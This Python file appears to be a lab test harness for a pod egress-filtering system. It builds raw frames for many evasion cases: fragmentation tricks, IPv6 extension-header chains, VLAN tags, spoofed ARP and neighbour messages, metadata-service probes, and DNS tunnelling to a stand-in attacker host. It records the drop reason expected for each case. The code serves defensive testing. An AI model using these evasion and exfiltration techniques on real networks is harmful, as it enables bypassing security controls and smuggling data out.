#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
The frames of a hostile root in a pod, for evasions.sh. Each case carries "SLUICE-RUN-CASE", so that whoever sees it
knows whose it is.

    frames.py list                  per case: CASE, WHERE it arrives without enforcement, REASON it is dropped for
    frames.py send RUN GATEWAY-MAC [sockets]
                                    in the pod: sends each case named on standard input, says how many frames it was;
                                    "sockets": where no frame can be sent, as IP packets, and those that can't are 0
    frames.py listen FILE           on the node: UDP port 9999 of every address and group, in the form of canary.py
    frames.py peer SRC PORT DST PORT  in the internet: one datagram to the pod
"""

import json
import os
import selectors
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True  # nothing is left in the source tree
from packets import (ACK, FIN, ICMP, ICMP6, RST, SYN, TCP, UDP, extension, fragment6, icmp, ip, ip4, ip6, name, packed,
                     query, tcp, udp)

OWN4, OWN6 = "10.0.1.5", "fd00::5"
FAR4, FAR6 = "8.8.8.8", "2001:4860:4860::8888"
ATTACKER4, ATTACKER6 = "6.6.6.6", "2001:db8:666::6"
PEER4, PEER6 = "198.51.100.30", "2001:db8:100::30"
KUBE_DNS, KUBE_DNS6 = "172.20.0.10", "fd00:ac14::a"
GROUP4, GROUP6 = "239.1.2.3", "ff02::1234"
LISTEN = 9999
ALLOWED, DENIED = (b"pypi", b"org"), (b"attacker", b"example")

RUN, GATEWAY, MAC = "none", bytes(6), bytes(6)


def marker(case):
    return f"SLUICE-{RUN}-{case}".encode()


def frame(packet, to=None, tags=()):
    """tags: TPIDs of VLAN tags, all of VLAN 0, which a Linux node takes off and routes on."""
    ethertype = 0x0800 if packet[0] >> 4 == 4 else 0x86DD
    outer = b"".join(struct.pack("!HH", tpid, 0) for tpid in tags)
    return (to or GATEWAY) + MAC + outer + struct.pack("!H", ethertype) + packet


def converse(server, kind, data):
    """Sends data by a socket, as a program would, and waits half a second for an answer."""
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, kind) as sock:
        sock.settimeout(0.5)
        try:
            sock.connect((server, 53))
            sock.sendall(data)
            sock.recv(4096)
        except OSError:
            pass
    return 1


def prefixed(message):
    return struct.pack("!H", len(message)) + message


def ask(message, server=KUBE_DNS):
    return converse(server, socket.SOCK_DGRAM, message)


def ask_tcp(messages, server=KUBE_DNS):
    return converse(server, socket.SOCK_STREAM, b"".join(prefixed(m) for m in messages))


# ---- cases: name -> (where, reason, function giving frames, or sending by itself and giving a count) ----

CASES = {}


def case(title, where, reason):
    def register(function):
        CASES[title] = (where, reason, function)
        return function

    return register


def both(title, reason, make, where="internet"):
    """A case per family: make(src, dst, marker) gives one packet."""
    CASES[title + "-4"] = (where, reason, lambda m: [frame(make(OWN4, FAR4, m))])
    CASES[title + "-6"] = (where, reason, lambda m: [frame(make(OWN6, FAR6, m))])


def tcp_to(flags, port=443):
    return lambda s, d, m: ip(s, d, TCP, tcp(s, d, 40000 + flags, port, flags, m))


def udp_to(port):
    return lambda s, d, m: ip(s, d, UDP, udp(s, d, 41000, port, m))


both("I1-tcp", "POLICY_DENIED", tcp_to(SYN))
both("I1-udp", "POLICY_DENIED", udp_to(443))
both("I6-ack", "POLICY_DENIED", tcp_to(ACK))
both("I6-synack", "POLICY_DENIED", tcp_to(SYN | ACK))
both("I6-rst", "POLICY_DENIED", tcp_to(RST))
both("I6-finack", "POLICY_DENIED", tcp_to(FIN | ACK))
both("I6-null", "TCP_NO_FLOW", tcp_to(0))
both("I6-synfin", "TCP_NO_FLOW", tcp_to(SYN | FIN))


def with_options(options, sport):
    return lambda s, d, m: ip(s, d, TCP, tcp(s, d, sport, 443, SYN, m, options))


# Fast Open's cookie (RFC 7413): data on the SYN is taken before any handshake. MP_JOIN (RFC 8684): a way of its own
# into a connection that somebody else has opened.
both("I6-fastopen", "POLICY_DENIED", with_options(bytes((34, 10)) + b"cookie00" + bytes((1, 1)), 40200))
both("I11-mptcp", "POLICY_DENIED", with_options(bytes((30, 12, 0x10, 1)) + bytes(8), 40201))
for port in (853, 5353, 784, 5355, 137):
    both(f"D8-udp{port}", "POLICY_DENIED", udp_to(port))
both("D8-tcp853", "POLICY_DENIED", tcp_to(SYN, 853))


@case("I8-echo-4", "internet", "POLICY_DENIED")
def echo4(m):
    return [frame(ip4(OWN4, FAR4, ICMP, icmp(OWN4, FAR4, 8, 0, 1, m + bytes(1400))))]


@case("I8-echo-6", "internet", "POLICY_DENIED")
def echo6(m):
    return [frame(ip6(OWN6, FAR6, ICMP6, icmp(OWN6, FAR6, 128, 0, 1, m)))]


@case("I8-error-4", "internet", "ICMP_ERROR")
def error4(m):
    quoted = ip4(FAR4, OWN4, UDP, udp(FAR4, OWN4, 1, 2, m))
    return [frame(ip4(OWN4, FAR4, ICMP, icmp(OWN4, FAR4, 3, 4, 1400, quoted)))]


@case("I8-error-6", "internet", "ICMP_ERROR")
def error6(m):
    quoted = ip6(FAR6, OWN6, UDP, udp(FAR6, OWN6, 1, 2, m))
    return [frame(ip6(OWN6, FAR6, ICMP6, icmp(OWN6, FAR6, 2, 0, 1400, quoted)))]


# I9. Without connection tracking the node routes fragments one by one.


def several(m):
    """So often that either half of the datagram has it whole."""
    return (m + b" ") * 8


def cut4(segment, dst, ident, which):
    cut = len(segment) // 16 * 8
    parts = {"first": (segment[:cut], 0x2000), "tail": (segment[cut:], cut // 8)}
    return [frame(ip4(OWN4, dst, segment_proto(segment), parts[w][0], ident, parts[w][1])) for w in which]


def cut6(segment, dst, which):
    cut = len(segment) // 16 * 8
    parts = {"first": (segment[:cut], 0, 1), "tail": (segment[cut:], cut // 8, 0)}
    proto = segment_proto(segment)
    return [frame(ip6(OWN6, dst, 44, fragment6(proto, *parts[w]))) for w in which]


def segment_proto(segment):
    """A UDP header's third field is the segment's length; a TCP header's is a sequence number."""
    return UDP if struct.unpack("!H", segment[4:6])[0] == len(segment) else TCP


@case("I9-first-4", "internet", "POLICY_DENIED")
def first4(m):
    return cut4(tcp(OWN4, FAR4, 42000, 443, SYN, several(m)), FAR4, 10, ["first"])


@case("I9-tail-4", "internet", "FIRST_LOGICAL_DATAGRAM_FRAGMENT_NOT_FOUND")
def tail4(m):
    return cut4(tcp(OWN4, FAR4, 42001, 443, SYN, several(m)), FAR4, 11, ["tail"])


@case("I9-tiny-4", "internet", "INVALID_PACKET_DROPPED")
def tiny4(m):
    """Eight bytes: the ports, and the flags only in the next one (RFC 1858)."""
    segment = tcp(OWN4, FAR4, 42002, 443, SYN, m)
    return [frame(ip4(OWN4, FAR4, TCP, segment[:8], 12, 0x2000)), frame(ip4(OWN4, FAR4, TCP, segment[8:], 12, 1))]


@case("I9-first-6", "internet", "POLICY_DENIED")
def first6(m):
    return cut6(udp(OWN6, FAR6, 42003, 443, several(m)), FAR6, ["first"])


@case("I9-tail-6", "internet", "FIRST_LOGICAL_DATAGRAM_FRAGMENT_NOT_FOUND")
def tail6(m):
    return cut6(udp(OWN6, FAR6, 42004, 443, several(m)), FAR6, ["tail"])


@case("I9-dns-4", "internet", "FIRST_LOGICAL_DATAGRAM_FRAGMENT_NOT_FOUND")
def dns4(m):
    return cut4(udp(OWN4, ATTACKER4, 42005, 53, query(name(m, *DENIED)) + several(m)), ATTACKER4, 13, ["first", "tail"])


@case("I9-dns-tail-first-4", "internet", "FIRST_LOGICAL_DATAGRAM_FRAGMENT_NOT_FOUND")
def dns4_reversed(m):
    datagram = udp(OWN4, ATTACKER4, 42006, 53, query(name(m, *ALLOWED)) + several(m))
    return cut4(datagram, ATTACKER4, 14, ["tail", "first"])


@case("I9-dns-6", "internet", "FIRST_LOGICAL_DATAGRAM_FRAGMENT_NOT_FOUND")
def dns6(m):
    return cut6(udp(OWN6, ATTACKER6, 42007, 53, query(name(m, *DENIED)) + several(m)), ATTACKER6, ["first", "tail"])


# I10. What each chain hides is a TCP SYN, or text.


def chain(title, reason, make):
    """make(the SYN, marker) gives the protocol of the first header and the headers with what they carry."""

    def frames(m):
        proto, data = make(tcp(OWN6, FAR6, 43000, 443, SYN, m), m)
        return [frame(ip6(OWN6, FAR6, proto, data))]

    CASES["I10-" + title] = ("internet", reason, frames)


EXTENSION = "INVALID_IPV6_EXTENSION_HEADER"
chain("hopbyhop", "POLICY_DENIED", lambda syn, m: (0, extension(TCP) + syn))
chain("destopts", "POLICY_DENIED", lambda syn, m: (60, extension(TCP) + syn))
chain("destopts9", EXTENSION, lambda syn, m: (60, extension(60) * 8 + extension(TCP) + syn))
chain("routing0", EXTENSION, lambda syn, m: (43, extension(TCP, bytes(6)) + syn))
chain("routing4", EXTENSION, lambda syn, m: (43, extension(TCP, b"\4\0\0\0\0\0" + bytes(16)) + syn))
chain("atomic", "POLICY_DENIED", lambda syn, m: (44, fragment6(TCP, syn, 0, 0)))
chain("two-fragment", EXTENSION, lambda syn, m: (44, fragment6(44, fragment6(TCP, syn, 0, 0), 0, 0)))
chain("auth", EXTENSION, lambda syn, m: (51, struct.pack("!BBHII", TCP, 1, 0, 1, 1) + syn))
chain("esp", "CT_UNKNOWN_L4_PROTOCOL", lambda syn, m: (50, struct.pack("!II", 1, 1) + m))
chain("no-next", "CT_UNKNOWN_L4_PROTOCOL", lambda syn, m: (59, m))

# I11
for number in (4, 41, 47, 50, 136, 253, 255):
    CASES[f"I11-{number}-4"] = ("internet", "CT_UNKNOWN_L4_PROTOCOL",
                                lambda m, n=number: [frame(ip4(OWN4, FAR4, n, struct.pack("!HH", 443, 443) + m))])
for number in (4, 41, 47, 136, 255):
    CASES[f"I11-{number}-6"] = ("internet", "CT_UNKNOWN_L4_PROTOCOL",
                                lambda m, n=number: [frame(ip6(OWN6, FAR6, n, struct.pack("!HH", 443, 443) + m))])
both("I11-sctp", "POLICY_DENIED", lambda s, d, m: ip(s, d, 132, struct.pack("!HHII", 44000, 443, 0, 0) + m))

# L1: tags of VLAN 0 cost a Linux router nothing to take off.
for label, tpids in (("8100", (0x8100,)), ("88a8", (0x88A8,)), ("double", (0x88A8, 0x8100))):
    CASES[f"L1-{label}"] = ("internet", "VLAN_FILTERED",
                            lambda m, t=tpids: [frame(udp_to(443)(OWN4, FAR4, m), tags=t)])

# L3
for label, source in (("neighbour", "10.0.1.6"), ("stranger", "10.9.9.9")):
    CASES[f"L3-{label}-4"] = ("internet", "INVALID_SOURCE_IP", lambda m, s=source: [frame(udp_to(443)(s, FAR4, m))])
for label, source in (("neighbour", "fd00::6"), ("stranger", "2001:db8:9::9")):
    CASES[f"L3-{label}-6"] = ("internet", "INVALID_SOURCE_IP", lambda m, s=source: [frame(udp_to(443)(s, FAR6, m))])


# L4. What only poisons the node's neighbour table is looked for there: "neighbour ADDRESS".


@case("L4-arp", "neighbour 10.0.1.66", "NEIGHBOUR_SPOOF")
def arp(_):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + MAC + packed("10.0.1.66") + bytes(6) + packed("10.0.0.10")
    return [b"\xff" * 6 + MAC + struct.pack("!H", 0x0806) + body]


def discovery(kind, dst, rest, data):
    return [frame(ip6(OWN6, dst, ICMP6, icmp(OWN6, dst, kind, 0, rest, data), hops=255))]


@case("L4-advertisement", "internet", "NEIGHBOUR_SPOOF")
def advertisement(m):
    """Routed like any other packet where nobody looks: a channel for what it carries."""
    return discovery(136, FAR6, 0x60000000, packed(OWN6) + m)


@case("L4-router", "internet", "NEIGHBOUR_SPOOF")
def router(m):
    return discovery(134, FAR6, 0x40000708, bytes(8) + m)


@case("L4-redirect", "internet", "NEIGHBOUR_SPOOF")
def redirect(m):
    return discovery(137, FAR6, 0, packed(OWN6) + packed(FAR6) + m)


# L6. Buffers in several pieces: a frame of jumbo size, and a train that the node's stack cuts into datagrams only
# behind the programs. Headers that lie in pages are tests/bpf's (l2).
both("L6-jumbo", "POLICY_DENIED", lambda s, d, m: ip(s, d, UDP, udp(s, d, 41001, 443, m + bytes(8000))))


def train(dst):
    def send_train(m):
        family = socket.AF_INET6 if ":" in dst else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.IPPROTO_UDP, 103, 1200)  # UDP_SEGMENT
            sock.connect((dst, 443))
            sock.send((m + b" " + bytes(1199 - len(m))) * 40)
        return 1

    return send_train


CASES["L6-train-4"] = ("internet", "POLICY_DENIED", train(FAR4))
CASES["L6-train-6"] = ("internet", "POLICY_DENIED", train(FAR6))


# L7. A router keeps these to itself, so a listener on the node tells whether they got in.


def group_frame(dst, mac):
    return lambda m: [frame(udp_to(LISTEN)(OWN6 if ":" in dst else OWN4, dst, m), to=mac)]


CASES["L7-multicast-4"] = ("node", "INVALID_DESTINATION_MAC", group_frame(GROUP4, bytes.fromhex("01005e010203")))
CASES["L7-multicast-6"] = ("node", "INVALID_DESTINATION_MAC", group_frame(GROUP6, bytes.fromhex("333300001234")))
CASES["L7-broadcast"] = ("node", "INVALID_DESTINATION_MAC", group_frame("255.255.255.255", b"\xff" * 6))
CASES["L7-multicast-unicast-mac"] = ("node", "NEVER_LEAVES", group_frame(GROUP4, None))
CASES["L7-broadcast-unicast-mac"] = ("node", "NEVER_LEAVES", group_frame("255.255.255.255", None))
CASES["N1-node-4"] = ("node", "POLICY_DENIED", group_frame("10.0.0.10", None))
CASES["N1-node-6"] = ("node", "POLICY_DENIED", group_frame("fd00:10::10", None))
# The metadata service's addresses: in the lab they are routed like any other.
for address in ("169.254.169.254", "fd00:ec2::254"):
    CASES[f"N1-imds-{6 if ':' in address else 4}"] = (
        "internet", "POLICY_DENIED",
        lambda m, d=address: [frame(tcp_to(SYN, 80)(OWN6 if ":" in d else OWN4, d, m))])
# A Service's address that is open on port 53 only.
CASES["N2-service-4"] = ("dns", "POLICY_DENIED", lambda m: [frame(tcp_to(SYN)(OWN4, KUBE_DNS, m))])
CASES["N2-service-6"] = ("dns", "POLICY_DENIED", lambda m: [frame(tcp_to(SYN)(OWN6, KUBE_DNS6, m))])


# DNS: where a query arrives without enforcement is "dns" or "internet"; what it adds to when enforced is the proxy's
# counter "dns COUNTER", or "assigned" when it only has to have been handed over.


@case("D1-udp", "dns", "dns denied")
def labels_udp(m):
    return ask(query(name(m, b"x" * 63, b"y" * 63, *DENIED)))


@case("D1-tcp", "dns", "dns denied")
def labels_tcp(m):
    return ask_tcp([query(name(m, b"x" * 63, b"y" * 63, *DENIED))])


@case("D1-under-allowed", "dns", "dns denied")
def labels_under_allowed(m):
    """A suffix of an allowed name that is not under it."""
    return ask(query(name(m, b"notpypi", b"org")))


def type_case(title, qtype):
    CASES["D3-" + title] = ("dns", "dns filtered", lambda m: ask(query(name(m, *ALLOWED), qtype)))


for label, number in (("txt", 16), ("null", 10), ("any", 255), ("https", 65), ("svcb", 64), ("mx", 15),
                      ("private", 65280)):
    type_case(label, number)


@case("D4-option", "dns", "assigned")
def option(m):
    """An OPT record (RFC 6891) with an option of local use: an allowed query, whose rider must not be forwarded."""
    data = struct.pack("!HH", 65001, len(m)) + m
    record = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(data)) + data
    return ask(query(name(*ALLOWED), counts=(1, 0, 0, 1), tail=record))


@case("D6-own-resolver-udp", "internet", "dns denied")
def own_resolver_udp(m):
    return ask(query(name(m, *DENIED)), ATTACKER4)


@case("D6-own-resolver-tcp", "internet", "dns denied")
def own_resolver_tcp(m):
    return ask_tcp([query(name(m, *DENIED))], ATTACKER4)


@case("D6-own-resolver-6", "internet", "dns denied")
def own_resolver_6(m):
    return ask(query(name(m, *DENIED)), ATTACKER6)


@case("D6-not-dns", "internet", "assigned")
def not_dns(m):
    """Text to the attacker's port 53, twice from one port: the proxy's answer to the first opens nothing."""
    packet = ip4(OWN4, ATTACKER4, UDP, udp(OWN4, ATTACKER4, 45000, 53, m))
    return [frame(packet), frame(packet)]


@case("D6-raw-tcp", "internet", "assigned")
def raw_tcp(m):
    return [frame(ip4(OWN4, ATTACKER4, TCP, tcp(OWN4, ATTACKER4, 45001, 53, flags, m))) for flags in (SYN, ACK)]


@case("D9-pipelined", "dns", "dns denied")
def pipelined(m):
    """An allowed and a denied query in one TCP segment."""
    return ask_tcp([query(name(*ALLOWED)), query(name(m, *DENIED))])


def malformed(title, make, counter):
    CASES["D10-" + title] = ("dns", counter, lambda m: ask(make(m)))


malformed("two-questions", lambda m: query(name(m, *ALLOWED), counts=(2, 0, 0, 0),
                                           tail=name(m, *DENIED) + struct.pack("!HH", 1, 1)), "dns formerr")
malformed("no-question", lambda m: struct.pack("!HH4H", 1, 0x0100, 0, 0, 0, 0) + m, "dns formerr")
malformed("trailing", lambda m: query(name(*ALLOWED), tail=m), "dns formerr")
malformed("pointer", lambda m: query(name(m)[:-1] + b"\xc0\x0c"), "dns formerr")
malformed("long-name", lambda m: query(name(m, b"x" * 63, b"y" * 63, b"z" * 63, b"w" * 60, *ALLOWED)), "dns formerr")
malformed("long-label", lambda m: query(name(m)[:-1] + b"\x40" + b"x" * 64 + name(*ALLOWED)), "dns formerr")
malformed("nul", lambda m: query(name(m, *DENIED[:1], b"example\0", *ALLOWED[1:])), "assigned")
malformed("notify", lambda m: query(name(m, *ALLOWED), flags=0x2000), "dns notimp")
malformed("update", lambda m: query(name(m, *ALLOWED), flags=0x2800), "dns notimp")
malformed("response", lambda m: query(name(m, *ALLOWED), flags=0x8100), "assigned")
malformed("short", lambda m: query(name(m, *ALLOWED))[:13 + len(m)], "dns formerr")


# I7: evasions.sh makes the peer speak first, from port 7777 to 4444. Only the answer to that gets out.


def pinhole(title, where, reason, sport, dst, dport):
    src = OWN6 if ":" in dst else OWN4
    CASES["I7-" + title] = (where, reason, lambda m: [frame(ip(src, dst, UDP, udp(src, dst, sport, dport, m)))])


for family, peer, far in (("4", PEER4, FAR4), ("6", PEER6, FAR6)):
    pinhole(f"other-port-{family}", "internet", "POLICY_DENIED", 4444, peer, 7778)
    pinhole(f"from-other-port-{family}", "internet", "POLICY_DENIED", 4445, peer, 7777)
    pinhole(f"other-address-{family}", "internet", "POLICY_DENIED", 4444, far, 7777)
    pinhole(f"denied-before-{family}", "internet", "POLICY_DENIED", 4446, peer, 7779)
    pinhole(f"answer-{family}", "internet", "none", 4444, peer, 7777)


# ---- programs ----


def multicast_mac(dst):
    """The address that a stack gives a frame to this group, None for one host's."""
    if dst == b"\xff" * 4:
        return b"\xff" * 6
    if len(dst) == 4 and 224 <= dst[0] < 240:
        return b"\x01\x00\x5e" + bytes([dst[1] & 127]) + dst[2:]
    return b"\x33\x33" + dst[12:] if len(dst) == 16 and dst[0] == 255 else None


def send_packet(data):
    """One frame's packet by a raw socket; 0 where a stack would put another frame around it, or refuses."""
    packet, four = data[14:], data[12:14] == b"\x08\x00"
    if not four and data[12:14] != b"\x86\xdd":
        return 0
    dst = packet[16:20] if four else packet[24:40]
    if data[:6] != (multicast_mac(dst) or GATEWAY):
        return 0
    # An IPv6 header cannot be given: the packet's own must be the one that the stack makes.
    if not four and (packet[8:24] != packed(OWN6) or packet[6] not in (TCP, UDP, ICMP6)):
        return 0
    try:
        family, proto = (socket.AF_INET, 255) if four else (socket.AF_INET6, packet[6])
        with socket.socket(family, socket.SOCK_RAW, proto) as sock:
            if four:
                sock.setsockopt(socket.IPPROTO_IP, 3, 1)  # IP_HDRINCL
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(packet if four else packet[40:], (socket.inet_ntop(sock.family, dst), 0))
        return 1
    except OSError as error:
        print(f"not sent: {error}", file=sys.stderr)
        return 0


def sender(way):
    """What sends a case's frames and says how many it was."""
    global MAC  # pylint: disable=global-statement
    if way == "sockets":
        return lambda frames: sum([send_packet(data) for data in frames])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    MAC = sock.getsockname()[4]

    def send_frames(frames):
        for data in frames:
            sock.send(data)
        return len(frames)

    return send_frames


def send(run, gateway, way="frames"):
    global RUN, GATEWAY  # pylint: disable=global-statement
    RUN, GATEWAY = run, bytes.fromhex(gateway.replace(":", ""))
    send_all = sender(way)
    for line in sys.stdin:
        title = line.strip()
        made = CASES[title][2](marker(title))
        print(send_all(made) if isinstance(made, list) else made, flush=True)


def listeners():
    """A socket per family, in the tests' group on every pod's interface."""
    for family, level, group in ((socket.AF_INET, socket.IPPROTO_IP, GROUP4), (socket.AF_INET6, 41, GROUP6)):
        sock = socket.socket(family, socket.SOCK_DGRAM)
        if family == socket.AF_INET6:
            sock.setsockopt(level, socket.IPV6_V6ONLY, 1)
        sock.bind(("", LISTEN))
        for index, interface in socket.if_nameindex():
            if interface.startswith("eni") and family == socket.AF_INET:
                sock.setsockopt(level, socket.IP_ADD_MEMBERSHIP, packed(group) + struct.pack("4si", bytes(4), index))
            elif interface.startswith("eni"):
                sock.setsockopt(level, socket.IPV6_JOIN_GROUP, packed(group) + struct.pack("i", index))
        yield sock


def listen(path):
    selector = selectors.DefaultSelector()
    for sock in listeners():
        selector.register(sock, selectors.EVENT_READ)
    with open(path, "w", encoding="ascii", buffering=1) as out:
        print(json.dumps({"canary": "listening"}), file=out)
        while True:
            for key, _ in selector.select():
                data, sender = key.fileobj.recvfrom(4096)
                record = {"time": time.monotonic(), "src": sender[0], "marker": data.decode("ascii", "replace")}
                print(json.dumps(record), file=out)


def speak(src, sport, dst, dport):
    with socket.socket(socket.AF_INET6 if ":" in src else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((src, int(sport)))
        sock.sendto(b"come out", (dst, int(dport)))


def main():
    command, *arguments = sys.argv[1:]
    if command == "list":
        for title, (where, reason, _) in CASES.items():
            print(f"{title}\t{where}\t{reason}")
        return
    if not os.path.exists("/run/inside-lab"):
        sys.exit("frames.py: runs inside a lab only")
    {"send": send, "listen": listen, "peer": speak}[command](*arguments)


main()
